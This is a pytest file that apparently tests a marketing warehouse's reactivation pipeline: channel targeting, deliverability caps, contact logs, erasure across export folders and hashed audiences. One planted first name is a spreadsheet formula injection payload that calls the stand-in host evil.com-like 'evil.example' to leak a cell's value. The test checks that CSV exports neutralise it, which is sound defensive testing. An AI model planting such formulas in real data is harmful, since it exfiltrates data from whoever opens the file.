"""Reactivation end to end, and the history over replays: one landing set (the planted
people of planted_landing.py, plus the reactivation people below) run four times into one
warehouse, as a user would over time:

1. 2025-12-31, a replay (on day 1): the marts and the history as they were then;
2. 2026-06-30 (day 1) and 3. 2026-07-01 (day 2), each live (the as-of date is the day of
   the run), day 2 with EXPORT_DIR moved elsewhere;
4. 2026-03-31, a replay of an earlier date: the history, the contact log and the export
   files stay as they were.

The reactivation people, all dormant retail customers unless said (a household each):
- R-EMAIL (email-active: opened a newsletter), first name a spreadsheet formula;
- R-SMS (SMS only, a mobile), R-POSTAL (post only);
- R-ERASE (email-active), who asks for erasure on day 2;
- R-COLD (email, but no open or click for 12 months: over the deliverability cap; the
  lowest priority: the oldest activity);
- R-AUDIENCE (consented to nothing);
- R-ATRISK (no purchase in the window, but visited 20 days ago: declining activity);
- R-LATE (got wave 1 from the marketing tool on 1 June: wave 2 is due on day 2);
- R-ACTIVE (bought a month ago).
The email contacts but R-COLD opened a newsletter in March (email-active; opens are not
activity).
"""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pytest
from main_job import query, run_main_job
from planted_landing import AS_OF, Landing, build_planted_landing

pytestmark = pytest.mark.slow  # runs the main job (`make test-fast` leaves it out)

DAY_1, DAY_2 = AS_OF, "2026-07-01"
BEFORE, EARLIER = "2025-12-31", "2026-03-31"
REACTIVATION_PEOPLE = ("R-EMAIL", "R-SMS", "R-POSTAL", "R-ERASE", "R-COLD", "R-AUDIENCE",
                       "R-ATRISK", "R-LATE", "R-ACTIVE")
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def add_reactivation_people(land: Landing) -> Landing:
    for person in REACTIVATION_PEOPLE:
        account = land.person(person, last_name=person.split("-")[1].title())
        ordered_on = {"R-ACTIVE": "2026-06-01", "R-COLD": "2025-03-01"}.get(person, "2025-06-01")
        land.order(account, person, ordered_on)
    individuals = {row["individual_id"]: row for row in land.rows["individuals"]}
    individuals["R-EMAIL"]["first_name"] = FORMULA_NAME
    individuals["R-EMAIL"]["postal_opt_in"] = "false"
    individuals["R-SMS"].update(email_opt_in="false", sms_opt_in="true", postal_opt_in="false")
    individuals["R-POSTAL"].update(email_opt_in="false")
    individuals["R-AUDIENCE"].update(email_opt_in="false", postal_opt_in="false")
    # opens are not activity: these stay dormant (or at risk), but count as email-active
    land.event("campaigns", campaign_id="C-R-NEWS", name="March newsletter",
               campaign_type="newsletter", channel="email", content_type="newsletter",
               cost_per_contact=0.004, launched_at="2026-03-01T09:00:00")
    for person in ("R-EMAIL", "R-ERASE", "R-ATRISK", "R-LATE"):
        for event_type in ("sent", "open"):
            land.event("email_events", individual_id=person, campaign_id="C-R-NEWS",
                       event_type=event_type, occurred_at="2026-03-01T09:00:00")
    land.event("campaigns", campaign_id="C-R-WAVE-1", name="Reactivation wave 1",
               campaign_type="reactivation", channel="email", content_type="we miss you",
               wave=1, cost_per_contact=0.004, launched_at="2026-06-01T09:00:00")
    land.event("email_events", individual_id="R-LATE", campaign_id="C-R-WAVE-1",
               event_type="sent", occurred_at="2026-06-01T09:00:00")
    land.event("web_sessions", individual_id="R-ATRISK", started_at="2026-06-10T18:00:00",
               channel="web", page_views=4)
    # known from day 2 on (on day 1 the row is dated after the day of the run)
    land.event("erasure_requests", individual_id="R-ERASE", requested_at=f"{DAY_2}T09:00:00")
    return land


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def reactivation_state(warehouse: Path, folder: Path, day: str, stdout: str) -> dict:
    """What the reactivation people got on `day` (the planted people are left out)."""
    people = ", ".join(f"'{person}'" for person in REACTIVATION_PEOPLE)
    return {
        "stdout": stdout,
        "targets": {row[0]: row[1:] for row in query(
            warehouse, "select individual_id, scenario, wave, channel from "
                       f"marts.reactivation_targets where individual_id in ({people})")},
        "exclusions": dict(query(
            warehouse, "select individual_id, reason_codes from marts.reactivation_exclusions "
                       f"where individual_id in ({people})")),
        "audience": query(warehouse, "select individual_id, hashed_email, hashed_phone from "
                                     "marts.reactivation_custom_audience "
                                     f"where individual_id in ({people})"),
        "files": {path.name: read_csv(path) for path in folder.glob(f"*_{day}.csv")},
        # wave 1's email sends: (email-active, email-inactive) contacts, all people
        "wave_1_email": query(
            warehouse, "select count(*) filter (where not is_email_inactive), "
                       "count(*) filter (where is_email_inactive) from marts.reactivation_targets "
                       "where scenario = 'reactivation' and wave = 1 and channel = 'email'")[0],
    }


HISTORY_SQL = (
    "select lifecycle_stage, valid_from::varchar, valid_to::varchar, is_current "
    "from marts.lifecycle_stage_history "
    "where entity_level = 'individual' and entity_id = 'I-DISPUTE' order by valid_from"
)


@pytest.fixture(scope="module")
def two_days(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """The first three runs (the replay of step 4 is its own test)."""
    folder = tmp_path_factory.mktemp("reactivation")
    landing = folder / "landing"
    add_reactivation_people(build_planted_landing()).write(landing)
    warehouse = folder / "warehouse.duckdb"
    # day 1 exports to the default folder (beside the warehouse); day 2 has EXPORT_DIR moved
    # elsewhere: erasure must still reach the files written to the first one
    exports, moved = folder / "exports", folder / "moved-exports"
    state: dict = {"warehouse": warehouse, "exports": exports, "moved": moved,
                   "landing": landing}

    # run on day 1 too, so that the landing rows it quarantines (dated after the day of
    # the run: R-ERASE's request) are those of day 1, and the gate's volume band holds
    result = run_main_job(landing, warehouse, BEFORE, RUN_DATE=DAY_1)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    state["before"] = dict(query(
        warehouse,
        "select individual_id, lifecycle_stage from marts.individual_activity "
        "where individual_id in ('I-DISPUTE', 'I-RECENT', 'I-FUTURE', 'I-CADENCE')",
    ))
    for day, export_dir in ((DAY_1, exports), (DAY_2, moved)):
        env = {"RUN_DATE": day} | ({"EXPORT_DIR": str(moved)} if export_dir == moved else {})
        result = run_main_job(landing, warehouse, day, **env)
        assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
        state[day] = reactivation_state(warehouse, export_dir, day, result.stdout)
    return state


def test_replaying_an_earlier_date_sees_the_world_as_it_was(two_days: dict) -> None:
    # the dispute of 2026-03-02 does not exist yet: last order 2024-01-01, lost
    assert two_days["before"] == {"I-DISPUTE": "lost", "I-RECENT": "prospect",
                                  "I-FUTURE": "prospect", "I-CADENCE": "prospect"}
    # the later runs on the same warehouse appended the changes to the history
    assert query(two_days["warehouse"], HISTORY_SQL) == [
        ("lost", BEFORE, AS_OF, False), ("active", AS_OF, None, True)]


def test_day_one_targets_each_channel_at_the_right_step(two_days: dict) -> None:
    assert two_days[DAY_1]["targets"] == {
        "R-EMAIL": ("reactivation", 1, "email"),
        "R-SMS": ("reactivation", 1, "sms"),
        "R-POSTAL": ("reactivation", 1, "postal"),
        "R-ERASE": ("reactivation", 1, "email"),
        "R-ATRISK": ("declining_activity", 1, "email"),
    }
    exclusions = two_days[DAY_1]["exclusions"]
    # in wave 1's email sends, floor(A / 9) email-inactive contacts beside A email-active
    # ones, the most recently active first: R-COLD (the oldest activity) is deferred
    assert exclusions["R-COLD"] == ["deferred_by_deliverability_cap"]
    active, inactive = two_days[DAY_1]["wave_1_email"]
    assert active >= 2 and inactive == active * 10 // 90
    # wave 1 came from the marketing tool on 1 June: wave 2 is due 30 days later
    assert exclusions["R-LATE"] == ["next_step_not_due"]
    assert "no_reachable_channel" in exclusions["R-AUDIENCE"]
    assert "household_not_inactive" in exclusions["R-ACTIVE"]
    # everyone once: a target or an exclusion
    assert len(two_days[DAY_1]["targets"]) + len(exclusions) == len(REACTIVATION_PEOPLE)


def test_the_custom_audience_holds_hashes_only(two_days: dict) -> None:
    email_hash = hashlib.sha256(b"r-audience@example.fr").hexdigest()
    phone_hash = hashlib.sha256(b"+33612345678").hexdigest()
    assert two_days[DAY_1]["audience"] == [("R-AUDIENCE", email_hash, phone_hash)]
    audience = two_days[DAY_1]["files"][f"reactivation_custom_audience_{DAY_1}.csv"]
    assert audience == [{"individual_id": "R-AUDIENCE", "scenario": "reactivation", "wave": "1",
                         "hashed_email": email_hash, "hashed_phone": phone_hash}]


def test_exports_per_channel_with_formula_injection_neutralised(two_days: dict) -> None:
    files = two_days[DAY_1]["files"]
    assert set(files) == {f"reactivation_{kind}_{DAY_1}.csv"
                          for kind in ("email", "sms", "postal", "custom_audience")}
    emails = {row["individual_id"]: row for row in files[f"reactivation_email_{DAY_1}.csv"]
              if row["individual_id"] in REACTIVATION_PEOPLE}
    assert set(emails) == {"R-EMAIL", "R-ERASE", "R-ATRISK"}
    assert emails["R-EMAIL"]["first_name"] == "'" + FORMULA_NAME
    assert emails["R-EMAIL"]["email"] == "r-email@example.fr"
    [sms] = [row for row in files[f"reactivation_sms_{DAY_1}.csv"]
             if row["individual_id"] in REACTIVATION_PEOPLE]
    assert (sms["individual_id"], sms["phone_e164"]) == ("R-SMS", "'+33612345678")
    [letter] = [row for row in files[f"reactivation_postal_{DAY_1}.csv"]
                if row["individual_id"] in REACTIVATION_PEOPLE]
    assert letter["individual_id"] == "R-POSTAL" and letter["line_6"] == "75002 PARIS"
    for name, rows in files.items():
        for row in rows:
            assert not any(value.startswith(TRIGGERS) for value in row.values()), (name, row)


def test_the_next_day_sends_no_step_twice_and_the_log_keeps_both_days(two_days: dict) -> None:
    day_one, day_two = two_days[DAY_1]["targets"], two_days[DAY_2]["targets"]
    # every step of day 1 is logged: the next ones are not due for 30 days (waves) or 7
    # days (declining activity); R-LATE's wave 2 falls due today
    assert day_two == {"R-LATE": ("reactivation", 2, "email")}
    assert "next_step_not_due" in two_days[DAY_2]["exclusions"]["R-ATRISK"]
    assert "next_step_not_due" in two_days[DAY_2]["exclusions"]["R-EMAIL"]
    # the deferred contact was not logged: still due, still over the cap
    assert two_days[DAY_2]["exclusions"]["R-COLD"] == ["deferred_by_deliverability_cap"]
    logged = query(two_days["warehouse"], "select as_of_date::varchar, individual_id, wave "
                                          "from reactivation.contact_log "
                                          "where individual_id like 'R-%' order by all")
    # the custom audience is a relaunch too: logged, so R-AUDIENCE is not due again tomorrow
    assert [row for row in logged if row[0] == DAY_1] == sorted(
        [(DAY_1, person, target[1]) for person, target in day_one.items()]
        + [(DAY_1, "R-AUDIENCE", 1)])
    assert [row for row in logged if row[0] == DAY_2] == sorted(
        (DAY_2, person, target[1]) for person, target in day_two.items())


def test_an_erased_person_is_in_no_export(two_days: dict) -> None:
    """R-ERASE was exported on day 1, then asked for erasure: day 2 erases them, and the day-1
    file on disk loses their row (the others stay), though day 2 exports to another folder."""
    assert query(two_days["warehouse"], "select lifecycle_stage from marts.individual_activity "
                                        "where individual_id = 'R-ERASE'") == [("erased",)]
    assert "R-ERASE" not in two_days[DAY_2]["targets"]
    assert len(list(two_days["moved"].glob("*.csv"))) == 4
    for path in [*two_days["exports"].glob("*.csv"), *two_days["moved"].glob("*.csv")]:
        text = path.read_text(encoding="utf-8")
        assert "R-ERASE" not in text and "r-erase@" not in text, path.name
    day_one_emails = read_csv(two_days["exports"] / f"reactivation_email_{DAY_1}.csv")
    assert {row["individual_id"] for row in day_one_emails} & set(REACTIVATION_PEOPLE) == {
        "R-EMAIL", "R-ATRISK"}


def test_the_run_prints_the_reactivation_summary_and_export_paths(two_days: dict) -> None:
    stdout = two_days[DAY_1]["stdout"]
    assert "reactivation targets: " in stdout
    assert "reactivation step 1 email" in stdout and "declining_activity step 1 email" in stdout
    assert "deferred_by_deliverability_cap" in stdout
    assert str(two_days["exports"]) in stdout and f"reactivation_sms_{DAY_1}.csv" in stdout


def test_a_replay_of_an_earlier_date_leaves_the_history_the_log_and_the_files(
        two_days: dict) -> None:
    """Step 4. The history and the contact log only move forward: replaying a date before
    their latest rebuilds the marts as of then, writes no row and no file (what the marketing
    tools received must not be rewritten after the fact)."""
    warehouse, landing = two_days["warehouse"], two_days["landing"]
    folders = (two_days["exports"], two_days["moved"])
    history = query(warehouse, HISTORY_SQL)
    log_before = query(warehouse, "select * from reactivation.contact_log order by all")
    files_before = {path: path.read_bytes() for folder in folders for path in folder.iterdir()}
    result = run_main_job(landing, warehouse, EARLIER)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert "no export" in result.stdout
    assert query(warehouse, HISTORY_SQL) == history
    assert query(warehouse, "select * from reactivation.contact_log order by all") == log_before
    assert {path: path.read_bytes() for folder in folders for path in folder.iterdir()
            } == files_before
    assert query(
        warehouse,
        "select lifecycle_stage, as_of_date::varchar from marts.individual_activity "
        "where individual_id = 'I-DISPUTE'",
    ) == [("active", EARLIER)]
    # the targets mart shows the replayed date, for audit
    assert query(warehouse, "select distinct as_of_date::varchar from marts.reactivation_targets"
                 ) in ([(EARLIER,)], [])
